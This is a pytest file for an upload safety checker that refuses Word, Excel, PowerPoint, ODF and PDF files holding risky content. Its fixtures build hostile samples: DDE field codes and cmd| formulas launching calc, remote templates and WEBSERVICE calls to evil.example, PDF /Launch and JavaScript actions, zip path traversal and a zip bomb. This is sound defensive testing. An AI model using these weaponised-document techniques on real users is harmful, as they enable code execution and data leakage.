"""Editors' office and PDF files are checked by what they hold (metodbanken/safety/uploads.py and the modules it calls): a small hostile file for every
rule is refused, naming what was found, where (the zip part, the PDF page) and what to do; clean files pass; `check`
and the strict build refuse the same file with the same message."""

from __future__ import annotations

import io
import subprocess
import sys
import warnings
import zipfile
from pathlib import Path

import docx
import pptx
import pytest
import xlsxwriter
from badinput import edit
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, NumberObject, TextStringObject
from sitekit import FIXTURES, REPO, assemble, build

from metodbanken.content.load import load_bank
from metodbanken.safety import uploads
from metodbanken.safety.uploads import upload_problem
from metodbanken.words.errors import ContentErrors

MATERIAL = "materials/startmote-mall"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL = R + "/"
HINT_MACROS = "save the file again from {app} without macros"
HINT_OBJECTS = "remove embedded objects and files"
HINT_LINKS = "detach the template and linked files and pictures"
HINT_FIELDS = "remove the field or turn it into plain text"
HINT_ARCHIVE = "open the file in {app} and save it again"


def refusal(tmp_path: Path, name: str, data: bytes, language: str = "en") -> tuple[str, str] | None:
    """(found and where, hint) of a file, as an editor reads them; None when it is published."""
    path = tmp_path / name
    path.write_bytes(data)
    found = upload_problem(path, name.rsplit(".", 1)[1])
    if found is None:
        return None
    return f"{found.found.render(language)} {found.where.render(language)}", found.hint.render(language)


# -- building office files --------------------------------------------------------------------------------------------


def plain_docx() -> bytes:
    document = docx.Document()
    document.add_paragraph("Mall för startmöte")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def rezip(
    data: bytes,
    *,
    replace: dict[str, bytes] | None = None,
    add: dict[str, bytes] | None = None,
    insert: dict[str, tuple[str, str]] | None = None,
) -> bytes:
    """The zip with parts replaced, added, or with text inserted before a marker (part -> (marker, text))."""
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            part = (replace or {}).get(info.filename, source.read(info))
            if info.filename in (insert or {}):
                marker, text = insert[info.filename]
                assert marker.encode() in part, (info.filename, marker)
                part = part.replace(marker.encode(), text.encode() + marker.encode(), 1)
            target.writestr(info.filename, part)
        for name, part in (add or {}).items():
            target.writestr(name, part)
    return buffer.getvalue()


def docx_with_body(xml: str) -> bytes:
    return rezip(plain_docx(), insert={"word/document.xml": ("<w:sectPr", xml)})


def docx_with_relationship(
    kind: str,
    target: str,
    *,
    external: bool = True,
    part: str = "word/_rels/document.xml.rels",
) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    relationship = f'<Relationship Id="rIdX" Type="{REL}{kind}" Target="{target}"{mode}/>'
    data = plain_docx()
    if part in zipfile.ZipFile(io.BytesIO(data)).namelist():
        return rezip(data, insert={part: ("</Relationships>", relationship)})
    rels = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'relationships">{relationship}</Relationships>'
    )
    return rezip(data, add={part: rels.encode()})


def field(*instruction_runs: str, result: str = "x") -> str:
    """A complex field, its instruction split over several runs as Word writes it."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>' for text in instruction_runs)
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f'<w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def plain_pptx() -> bytes:
    presentation = pptx.Presentation()
    slide = presentation.slides.add_slide(presentation.slide_layouts[1])
    slide.shapes.title.text = "Ledningsgrupp"
    buffer = io.BytesIO()
    presentation.save(buffer)
    return buffer.getvalue()


def xlsx(*formulas: str) -> bytes:
    buffer = io.BytesIO()
    workbook = xlsxwriter.Workbook(buffer, {"in_memory": True})
    sheet = workbook.add_worksheet()
    sheet.write(0, 0, "Våldsstatistik")
    sheet.write_number(1, 0, 12)
    sheet.write_formula(2, 0, "=SUM(A2:A2)")
    sheet.write_url(3, 0, "https://www.example.org/statistik")
    for row, formula in enumerate(formulas, start=5):
        sheet.write_formula(row, 0, formula)
    workbook.close()
    return buffer.getvalue()


ODF_NAMESPACES = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:dom="http://www.w3.org/2001/xml-events"'
)
ODF_TEXT = (
    '<text:p>Se <text:a xlink:type="simple" xlink:href="https://www.example.org/">webbplatsen</text:a> och '
    '<text:a xlink:href="#Syfte">syftet</text:a>.</text:p>'
    '<draw:frame><draw:image xlink:href="Pictures/bild.png" xlink:type="simple"/></draw:frame>'
    '<draw:frame><draw:object xlink:href="./Object 1" xlink:type="simple"/></draw:frame>'
)


def odt(
    body: str = "",
    *,
    scripts: str = "<office:scripts/>",
    meta: str = "",
    add: dict[str, bytes] | None = None,
    manifest: str = "",
) -> bytes:
    """An ODF text document as LibreOffice writes one: mimetype first and stored, a manifest, content, styles, meta."""
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ODF_NAMESPACES} office:version="1.3">'
        f"{scripts}<office:body><office:text>{ODF_TEXT}{body}</office:text></office:body></office:document-content>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.text")
        archive.writestr(
            "META-INF/manifest.xml",
            '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
            'opendocument:xmlns:manifest:1.0" manifest:version="1.3"><manifest:file-entry manifest:full-path="/" '
            'manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry '
            'manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
            f"{manifest}</manifest:manifest>",
        )
        archive.writestr("content.xml", content)
        archive.writestr(
            "styles.xml", f'<?xml version="1.0" encoding="UTF-8"?><office:document-styles {ODF_NAMESPACES}/>'
        )
        archive.writestr(
            "meta.xml",
            f'<?xml version="1.0" encoding="UTF-8"?><office:document-meta {ODF_NAMESPACES}>'
            f"<office:meta><meta:generator>LibreOffice</meta:generator>{meta}</office:meta>"
            "</office:document-meta>",
        )
        archive.writestr("Pictures/bild.png", b"\x89PNG\r\n\x1a\n")
        archive.writestr(
            "Object 1/content.xml",
            f'<?xml version="1.0" encoding="UTF-8"?><office:document-content ' f"{ODF_NAMESPACES}/>",
        )
        for name, part in (add or {}).items():
            archive.writestr(name, part)
    return buffer.getvalue()


# -- building PDFs ----------------------------------------------------------------------------------------------------


def pdf(change=None, pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(200, 200)
    if change:
        change(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def dictionary(**entries) -> DictionaryObject:
    """A PDF dictionary from keyword arguments: a str starting with '/' is a name, other str text."""

    def value(v):
        if isinstance(v, str):
            return NameObject(v) if v.startswith("/") else TextStringObject(v)
        return v

    return DictionaryObject({NameObject("/" + key): value(v) for key, v in entries.items()})


def annotate(writer: PdfWriter, annotation: DictionaryObject, page: int = 0) -> None:
    annotation.update(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Rect"): ArrayObject([FloatObject(10), FloatObject(10), FloatObject(50), FloatObject(50)]),
        }
    )
    target = writer.pages[page]
    if "/Annots" not in target:
        target[NameObject("/Annots")] = ArrayObject()
    target["/Annots"].append(writer._add_object(annotation))


def link(writer: PdfWriter, action: DictionaryObject, page: int = 0) -> None:
    annotate(writer, dictionary(Subtype="/Link", A=action), page)


def catalog(writer: PdfWriter, key: str, value) -> None:
    writer._root_object[NameObject(key)] = value


# -- every rule, with a small hostile file ------------------------------------------------------------------------------

OFFICE_CASES = [
    # macros
    (
        "docx",
        rezip(plain_docx(), add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        "macros in word/vbaProject.bin",
        HINT_MACROS,
    ),
    (
        "docx",
        rezip(
            plain_docx(),
            replace={
                "[Content_Types].xml": zipfile.ZipFile(io.BytesIO(plain_docx()))
                .read("[Content_Types].xml")
                .replace(
                    b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                    b"application/vnd.ms-word.document.macroEnabled.main+xml",
                )
            },
        ),
        "the content type application/vnd.ms-word.document.macroEnabled.main+xml, which is for macros in /word/document.xml",
        HINT_MACROS,
    ),
    (
        "docx",
        docx_with_relationship("vbaProject", "vbaProject.bin", external=False),
        "macros in word/_rels/document.xml.rels",
        HINT_MACROS,
    ),
    (
        "xlsx",
        rezip(xlsx(), add={"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"}),
        "macros in xl/macrosheets/sheet1.xml",
        HINT_MACROS,
    ),
    (
        "pptx",
        rezip(plain_pptx(), add={"ppt/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        "macros in ppt/vbaProject.bin",
        HINT_MACROS,
    ),
    # OLE and ActiveX objects, embedded files
    (
        "docx",
        rezip(plain_docx(), add={"word/activeX/activeX1.xml": b"<ax:ocx/>"}),
        "an ActiveX control in word/activeX/activeX1.xml",
        HINT_OBJECTS,
    ),
    (
        "docx",
        rezip(plain_docx(), add={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
        "an embedded OLE object in word/embeddings/oleObject1.bin",
        HINT_OBJECTS,
    ),
    (
        "docx",
        rezip(plain_docx(), add={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx()}),
        "an embedded file or program in word/embeddings/Microsoft_Excel_Worksheet.xlsx",
        HINT_OBJECTS,
    ),
    (
        "docx",
        docx_with_body(
            '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
            'ProgID="Package"/></w:object></w:r></w:p>'
        ),
        "an embedded OLE object in word/document.xml",
        HINT_OBJECTS,
    ),
    (
        "docx",
        docx_with_relationship("oleObject", "embeddings/x.bin", external=False),
        "an embedded OLE object in word/_rels/document.xml.rels",
        HINT_OBJECTS,
    ),
    (
        "docx",
        docx_with_relationship("aFChunk", "afchunk.mht", external=False),
        "an embedded file or program in word/_rels/document.xml.rels",
        HINT_OBJECTS,
    ),
    (
        "pptx",
        rezip(plain_pptx(), add={"ppt/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
        "an embedded OLE object in ppt/embeddings/oleObject1.bin",
        HINT_OBJECTS,
    ),
    # attached and remote templates, external relationships, file: and UNC targets
    (
        "docx",
        docx_with_relationship(
            "attachedTemplate", "\\\\evil.example\\share\\Normal.dotm", part="word/_rels/settings.xml.rels"
        ),
        "a template or document fetched from '\\\\evil.example\\share\\Normal.dotm' in word/_rels/settings.xml.rels",
        HINT_LINKS,
    ),
    (
        "docx",
        docx_with_relationship(
            "attachedTemplate", "https://evil.example/Normal.dotm", part="word/_rels/settings.xml.rels"
        ),
        "a template or document fetched from 'https://evil.example/Normal.dotm' in word/_rels/settings.xml.rels",
        HINT_LINKS,
    ),
    (
        "docx",
        docx_with_relationship(
            "attachedTemplate", "file:///C:/Mallar/Normal.dotm", part="word/_rels/settings.xml.rels"
        ),
        "a template or document fetched from 'file:///C:/Mallar/Normal.dotm'",
        HINT_LINKS,
    ),
    (
        "docx",
        docx_with_relationship("subDocument", "https://evil.example/del.docx"),
        "a template or document fetched from 'https://evil.example/del.docx' in word/_rels/document.xml.rels",
        HINT_LINKS,
    ),
    (
        "docx",
        docx_with_relationship("image", "https://evil.example/spion.png"),
        "an external relationship (image) to 'https://evil.example/spion.png' in word/_rels/document.xml.rels",
        HINT_LINKS,
    ),
    (
        "docx",
        docx_with_relationship("hyperlink", "javascript:alert(1)"),
        "an external relationship (hyperlink) to 'javascript:alert(1)'",
        HINT_LINKS,
    ),
    (
        "docx",
        docx_with_relationship("hyperlink", "file:///C:/Users/"),
        "a reference to a file on the computer or the network " "('file:///C:/Users/') in word/_rels/document.xml.rels",
        HINT_LINKS,
    ),
    (
        "docx",
        docx_with_relationship("hyperlink", "//evil.example/share/x"),
        "a reference to a file on the computer or the network " "('//evil.example/share/x')",
        HINT_LINKS,
    ),
    (
        "docx",
        docx_with_body(
            '<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" '
            'src="\\\\evil.example\\s\\a.png"/></w:pict></w:r></w:p>'
        ),
        "a reference to a file on the computer or the network ('\\\\evil.example\\s\\a.png') in word/document.xml",
        HINT_LINKS,
    ),
    (
        "xlsx",
        rezip(
            xlsx(),
            add={
                "xl/externalLinks/_rels/externalLink1.xml.rels": (
                    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
                    f'Type="{REL}externalLinkPath" Target="https://evil.example/bok.xlsx" TargetMode="External"/></Relationships>'
                ).encode()
            },
        ),
        "an external relationship (externallinkpath) to 'https://evil.example/bok.xlsx' in "
        "xl/externalLinks/_rels/externalLink1.xml.rels",
        HINT_LINKS,
    ),
    (
        "pptx",
        rezip(
            plain_pptx(),
            insert={
                "ppt/slides/_rels/slide1.xml.rels": (
                    "</Relationships>",
                    f'<Relationship Id="rIdX" Type="{REL}hyperlink" Target="\\\\evil.example\\s" TargetMode="External"/>',
                )
            },
        ),
        "a reference to a file on the computer or the network ('\\\\evil.example\\s') in ppt/slides/_rels/slide1.xml.rels",
        HINT_LINKS,
    ),
    (
        "xlsx",
        rezip(
            xlsx(),
            add={
                "xl/connections.xml": b'<connections><connection id="1"><webPr url="https://evil.example/"/>'
                b"</connection></connections>"
            },
        ),
        "a data connection that fetches data from elsewhere when the file opens in xl/connections.xml",
        HINT_LINKS,
    ),
    (
        "docx",
        rezip(
            plain_docx(),
            insert={
                "word/settings.xml": (
                    "</w:settings>",
                    '<w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
                    '<w:query w:val="SELECT * FROM x"/></w:mailMerge>',
                )
            },
        ),
        "a data connection that fetches data from elsewhere when the file opens in word/settings.xml",
        HINT_LINKS,
    ),
    # field codes that fetch or run something, joined over their runs
    (
        "docx",
        docx_with_body(field(" INCLUDE", 'PICTURE "https://evil.example/p.png" \\d ')),
        "the field code INCLUDEPICTURE, which fetches or runs something in word/document.xml",
        HINT_FIELDS,
    ),
    (
        "docx",
        docx_with_body(field(' INCLUDETEXT "\\\\\\\\evil.example\\\\s\\\\a.docx" ')),
        "the field code INCLUDETEXT",
        HINT_FIELDS,
    ),
    (
        "docx",
        docx_with_body(field(' LINK Excel.Sheet.12 "C:\\\\a.xlsx" "Blad1!R1C1" \\a ')),
        "the field code LINK",
        HINT_FIELDS,
    ),
    (
        "docx",
        docx_with_body(field(" DDE", 'AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ')),
        "the field code DDEAUTO",
        HINT_FIELDS,
    ),
    (
        "docx",
        docx_with_body(field(' dde "c:\\\\windows\\\\system32\\\\cmd.exe" "/c calc" ')),
        "the field code DDE,",
        HINT_FIELDS,
    ),
    ("docx", docx_with_body(field(' IMPORT "https://evil.example/a.png" ')), "the field code IMPORT", HINT_FIELDS),
    (
        "docx",
        docx_with_body(field(' HYPERLINK "file:///C:/Windows/" ')),
        "the field code HYPERLINK to 'file:///C:/Windows/' in word/document.xml",
        HINT_FIELDS,
    ),
    (
        "docx",
        docx_with_body(field(' HYPERLINK "\\\\\\\\evil.example\\\\s" ')),
        "the field code HYPERLINK to '\\\\evil.example\\s'",
        HINT_FIELDS,
    ),
    (
        "docx",
        docx_with_body(field(" HYPERLINK ", "javascript:alert(1)")),
        "the field code HYPERLINK to 'javascript:alert(1)'",
        HINT_FIELDS,
    ),
    (
        "docx",
        docx_with_body(
            '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;https://evil.example/p.png&quot; '
            '\\d"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
        ),
        "the field code INCLUDEPICTURE",
        HINT_FIELDS,
    ),
    (
        "docx",
        docx_with_body(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            + field(" QUOTE 68 68 69 ", result="DDE")[5:-6]
            + '<w:r><w:instrText> "cmd.exe"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        ),
        "a field code whose name another field computes in word/document.xml",
        HINT_FIELDS,
    ),
    (
        "docx",
        docx_with_body(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDEPICTURE '
            '"https://evil.example/p.png"</w:instrText></w:r></w:p>'
        ),
        "the field code INCLUDEPICTURE",
        HINT_FIELDS,
    ),
    (
        "docx",
        rezip(
            plain_docx(), add={"word/footer1.xml": f'<w:ftr xmlns:w="{W}">{field(" DDEAUTO cmd ")}</w:ftr>'.encode()}
        ),
        "the field code DDEAUTO, which fetches or runs something in word/footer1.xml",
        HINT_FIELDS,
    ),
    (
        "docx",
        rezip(
            plain_docx(),
            add={
                "word/header1.xml": f'<?xml version="1.0" encoding="UTF-16"?><w:hdr xmlns:w="{W}">'
                f'{field(" DDEAUTO cmd ")}</w:hdr>'.encode("utf-16")
            },
        ),
        "the field code DDEAUTO, which fetches or runs something in word/header1.xml",
        HINT_FIELDS,
    ),
    (
        "xlsx",
        xlsx("=cmd|' /C calc'!A0"),
        "the formula 'cmd|' /C calc'!A0', which fetches or runs something in " "xl/worksheets/sheet1.xml",
        HINT_FIELDS,
    ),
    ("xlsx", xlsx('=WEBSERVICE("https://evil.example/?"&A1)'), "the formula 'WEBSERVICE(", HINT_FIELDS),
    (
        "xlsx",
        xlsx('=HYPERLINK("file:///C:/Windows/","x")'),
        'the formula \'HYPERLINK("file:///C:/Windows/"',
        HINT_FIELDS,
    ),
    # ODF: macros and scripts, events, objects, links anywhere but the web
    (
        "odt",
        odt(add={"Basic/Standard/Module1.xml": b"<script:module/>"}),
        "macros in Basic/Standard/Module1.xml",
        HINT_MACROS,
    ),
    ("odt", odt(add={"Scripts/python/angrepp.py": b"import os"}), "macros in Scripts/python/angrepp.py", HINT_MACROS),
    (
        "odt",
        odt(add={"Object 1/Basic/Standard/Module1.xml": b"<script:module/>"}),
        "macros in Object 1/Basic/Standard/Module1.xml",
        HINT_MACROS,
    ),
    (
        "odt",
        odt(
            scripts='<office:scripts><office:script script:language="ooo:Basic">Shell("calc")</office:script></office:scripts>'
        ),
        "a script or an event (<script>) in content.xml",
        HINT_MACROS,
    ),
    (
        "odt",
        odt(
            scripts='<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name='
            '"dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location='
            'document"/></office:event-listeners>'
        ),
        "a script or an event (<event-listener>) in content.xml",
        HINT_MACROS,
    ),
    (
        "odt",
        odt(
            manifest='<manifest:file-entry manifest:full-path="Basic/" manifest:media-type="application/binary-basic"/>'
        ),
        "the content type application/binary-basic, which is for embedded objects or scripts in META-INF/manifest.xml",
        HINT_MACROS,
    ),
    (
        "odt",
        odt(
            manifest='<manifest:file-entry manifest:full-path="Object 2" manifest:media-type="application/vnd.sun.star.oleobject"/>'
        ),
        "the content type application/vnd.sun.star.oleobject, which is for embedded objects or scripts in META-INF/manifest.xml",
        HINT_OBJECTS,
    ),
    (
        "odt",
        odt('<draw:frame><draw:object-ole xlink:href="./Object 2"/></draw:frame>'),
        "an embedded OLE object in content.xml",
        HINT_OBJECTS,
    ),
    (
        "odt",
        odt('<draw:frame><draw:applet draw:code="Angrepp.class"/></draw:frame>'),
        "an embedded file or program in content.xml",
        HINT_OBJECTS,
    ),
    (
        "odt",
        odt('<text:p><text:a xlink:href="file:///C:/Windows/">x</text:a></text:p>'),
        "a reference to 'file:///C:/Windows/' (only links may go to the web) in content.xml",
        HINT_LINKS,
    ),
    (
        "odt",
        odt('<text:p><text:a xlink:href="\\\\evil.example\\s">x</text:a></text:p>'),
        "a reference to '\\\\evil.example\\s'",
        HINT_LINKS,
    ),
    (
        "odt",
        odt('<text:p><text:a xlink:href="../annat.odt">x</text:a></text:p>'),
        "a reference to '../annat.odt' (only links may go to the web) in content.xml",
        HINT_LINKS,
    ),
    (
        "odt",
        odt('<draw:frame><draw:image xlink:href="https://evil.example/spion.png"/></draw:frame>'),
        "a reference to 'https://evil.example/spion.png' (only links may go to the web) in content.xml",
        HINT_LINKS,
    ),
    (
        "odt",
        odt(
            '<table:table xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"><table:table-row><table:table-cell '
            'table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)"/></table:table-row></table:table>'
        ),
        'the formula \'of:=DDE("cmd";"/c calc";"x")\', which fetches or runs something in content.xml',
        HINT_FIELDS,
    ),
    (
        "odt",
        odt(meta='<meta:template xlink:type="simple" xlink:href="https://evil.example/mall.ott"/>'),
        "a template or document fetched from 'https://evil.example/mall.ott' in meta.xml",
        HINT_LINKS,
    ),
    (
        "odt",
        odt(
            manifest='<manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry>'
        ),
        "encrypted content in META-INF/manifest.xml",
        HINT_ARCHIVE,
    ),
]


@pytest.mark.parametrize(
    "extension, data, found, hint",
    OFFICE_CASES,
    ids=[f"{i}-{case[0]}-{(case[2] or 'allowed')[:40]}" for i, case in enumerate(OFFICE_CASES)],
)
def test_office_files_are_refused_for_what_they_hold(tmp_path, extension, data, found, hint):
    result = refusal(tmp_path, f"mall.{extension}", data)
    if found is None:
        assert result is None, result
        return
    assert result is not None, f"{found}: published"
    assert found in result[0], result
    assert hint.format(app=uploads.OFFICE_APPS[extension]) in result[1], result


def too_many_parts() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for number in range(uploads.MAX_PARTS + 1):
            archive.writestr(f"word/media/image{number}.png", b"")
    return buffer.getvalue()


def with_member(name: str, *, flag_bits: int = 0, twice: bool = False) -> bytes:
    data, buffer = plain_docx(), io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about a name given twice
        source = zipfile.ZipFile(io.BytesIO(data))
        for info in source.infolist():
            archive.writestr(info, source.read(info))
        archive.writestr(zipfile.ZipInfo(name), b"<x/>")
        if twice:
            archive.writestr(zipfile.ZipInfo(name), b"<y/>")
    data = buffer.getvalue()
    if flag_bits:  # zipfile cannot write an encrypted part: set the flag in the central directory entry
        entry = data.rindex(b"PK\x01\x02", 0, data.rindex(name.encode()))
        flags = int.from_bytes(data[entry + 8 : entry + 10], "little") | flag_bits
        data = data[: entry + 8] + flags.to_bytes(2, "little") + data[entry + 10 :]
    return data


@pytest.mark.parametrize(
    "data, found",
    [
        (
            b"PK\x03\x04 not really a zip",
            "content the bank cannot read (File is not a zip file) in the file's zip archive",
        ),
        (
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504),
            "content the bank cannot read",
        ),  # a password-protected Word file is OLE
        (too_many_parts(), f"{uploads.MAX_PARTS + 1} parts (at most {uploads.MAX_PARTS}) in the file's zip archive"),
        (with_member("word/extra.xml", flag_bits=0x1), "encrypted content in word/extra.xml"),
        (with_member("../../evil.xml"), "the part '../../evil.xml', which points outside the file"),
        (with_member("/etc/evil.xml"), "the part '/etc/evil.xml', which points outside the file"),
        (with_member("C:/evil.xml"), "the part 'C:/evil.xml', which points outside the file"),
        (with_member("word\\..\\..\\evil.xml"), "which points outside the file"),
        (with_member("word/extra.xml", twice=True), "the part 'word/extra.xml' twice"),
        (rezip(plain_docx(), add={"word/_rels/broken.xml.rels": b"<Relationships"}), "content the bank cannot read ("),
        (rezip(plain_docx(), add={"word/broken.xml": b"<w:document><w:fldChar"}), "content the bank cannot read ("),
        (
            rezip(plain_docx(), add={"word/entities.xml": b'<!DOCTYPE x [<!ENTITY a "fldChar">]><x>&a;</x>'}),
            "content the bank cannot read (",
        ),
    ],
)
def test_zip_containers_are_refused_when_unsafe_to_open(tmp_path, data, found):
    result = refusal(tmp_path, "mall.docx", data)
    assert result is not None and found in result[0], result
    assert HINT_ARCHIVE.format(app="Word") in result[1], result


def test_a_zip_bomb_is_refused_by_its_unpacked_size_before_anything_is_unpacked(tmp_path, monkeypatch):
    bomb = rezip(plain_docx(), add={"word/media/bomb.png": bytes(3 * 1024 * 1024)})
    assert len(bomb) < 100_000
    monkeypatch.setattr(uploads, "MAX_UNPACKED_BYTES", 2 * 1024 * 1024)
    result = refusal(tmp_path, "mall.docx", bomb)
    assert (
        result is not None and "3 MB of unpacked content (at most 2 MB) in the file's zip archive" in result[0]
    ), result


# -- PDF ------------------------------------------------------------------------------------------------------------------


def open_action_javascript(writer):
    catalog(writer, "/OpenAction", writer._add_object(dictionary(S="/JavaScript", JS="app.alert(1)")))


def document_javascript(writer):
    script = writer._add_object(dictionary(S="/JavaScript", JS="app.alert(1);"))
    catalog(writer, "/Names", dictionary(JavaScript=dictionary(Names=ArrayObject([TextStringObject("start"), script]))))


def page_additional_action(writer):
    writer.pages[1][NameObject("/AA")] = dictionary(O=dictionary(S="/JavaScript", JS="app.alert(1)"))


def launch(writer):
    link(writer, dictionary(S="/Launch", F="cmd.exe"))


def go_to_remote_unc(writer):
    link(writer, dictionary(S="/GoToR", F="\\\\evil.example\\share\\a.pdf", D=ArrayObject([NumberObject(0)])), page=1)


def go_to_embedded(writer):
    link(writer, dictionary(S="/GoToE", T=dictionary(R="/C", N="a.pdf")))


def import_data(writer):
    catalog(writer, "/OpenAction", dictionary(S="/ImportData", F="\\\\evil.example\\s\\data.fdf"))


def uri_javascript(writer):
    link(writer, dictionary(S="/URI", URI="javascript:alert(1)"))


def uri_file(writer):
    link(writer, dictionary(S="/URI", URI="file:///C:/Windows/"))


def next_chain(writer):
    """A web link whose /Next chain ends in JavaScript, 2,000 actions down, with a loop back to the start."""
    last = writer._add_object(dictionary(S="/JavaScript", JS="app.alert(1)"))
    current = last
    for _ in range(2000):
        current = writer._add_object(dictionary(S="/URI", URI="https://www.example.org/", Next=current))
    last.get_object()[NameObject("/Next")] = current
    link(writer, current.get_object())


def disguised_as_page_tree(writer):
    """An action that calls itself a page tree node, so a walk that skips the page tree by its /Type would miss it."""
    catalog(
        writer,
        "/OpenAction",
        dictionary(
            Type="/Pages", S="/URI", URI="https://www.example.org/", Next=dictionary(S="/JavaScript", JS="app.alert(1)")
        ),
    )


def in_the_page_tree(writer):
    writer._root_object["/Pages"].get_object()[NameObject("/AA")] = dictionary(O=dictionary(S="/Launch", F="cmd.exe"))


def embedded_file(writer):
    writer.add_attachment("bilaga.exe", b"MZ")


def file_attachment_annotation(writer):
    spec = dictionary(Type="/Filespec", F="bilaga.txt")
    annotate(writer, dictionary(Subtype="/FileAttachment", FS=spec, Contents="bilaga"), page=1)


def xfa_form(writer):
    catalog(writer, "/AcroForm", dictionary(Fields=ArrayObject(), XFA=TextStringObject("<xdp:xdp/>")))


def form_field_submit(writer):
    widget = dictionary(
        Subtype="/Widget", FT="/Btn", T="skicka", A=dictionary(S="/SubmitForm", F="https://evil.example/")
    )
    annotate(writer, widget)
    catalog(writer, "/AcroForm", dictionary(Fields=ArrayObject([writer.pages[0]["/Annots"][0]])))


def form_field_javascript(writer):
    widget = dictionary(Subtype="/Widget", FT="/Tx", T="namn", AA=dictionary(K=dictionary(S="/JavaScript", JS="x()")))
    annotate(writer, widget, page=1)


HINT_PDF_JS = "export the PDF without JavaScript"
HINT_PDF_ACTIONS = "remove buttons and links that open files or programs"
HINT_PDF_EMBEDDED = "export the PDF without attached files"


@pytest.mark.parametrize(
    "change, found, hint",
    [
        (open_action_javascript, "JavaScript code in the document catalog", HINT_PDF_JS),
        (document_javascript, "JavaScript code in the document catalog", HINT_PDF_JS),
        (page_additional_action, "JavaScript code on page 2", HINT_PDF_JS),
        (launch, "a /Launch action (which opens another file or a program, or sends data) on page 1", HINT_PDF_ACTIONS),
        (
            go_to_remote_unc,
            "a /GoToR action (which opens another file or a program, or sends data) on page 2",
            HINT_PDF_ACTIONS,
        ),
        (go_to_embedded, "a /GoToE action", HINT_PDF_ACTIONS),
        (
            import_data,
            "a /ImportData action (which opens another file or a program, or sends data) in the document catalog",
            HINT_PDF_ACTIONS,
        ),
        (uri_javascript, "a link to 'javascript:alert(1)' on page 1", HINT_PDF_ACTIONS),
        (uri_file, "a link to 'file:///C:/Windows/' on page 1", HINT_PDF_ACTIONS),
        (next_chain, "JavaScript code on page 1", HINT_PDF_JS),
        (disguised_as_page_tree, "JavaScript code in the document catalog", HINT_PDF_JS),
        (
            in_the_page_tree,
            "a /Launch action (which opens another file or a program, or sends data) in the document catalog",
            HINT_PDF_ACTIONS,
        ),
        (embedded_file, "an embedded or attached file in the document catalog", HINT_PDF_EMBEDDED),
        (file_attachment_annotation, "an embedded or attached file on page 2", HINT_PDF_EMBEDDED),
        (xfa_form, "an XFA form in the document catalog", "save the form as a plain PDF without XFA"),
        (form_field_submit, "a /SubmitForm action", HINT_PDF_ACTIONS),
        (form_field_javascript, "JavaScript code on page 2", HINT_PDF_JS),
    ],
)
def test_pdfs_are_refused_for_what_they_hold(tmp_path, change, found, hint):
    result = refusal(tmp_path, "affisch.pdf", pdf(change, pages=2))
    assert result is not None, f"{found}: published"
    assert found in result[0], result
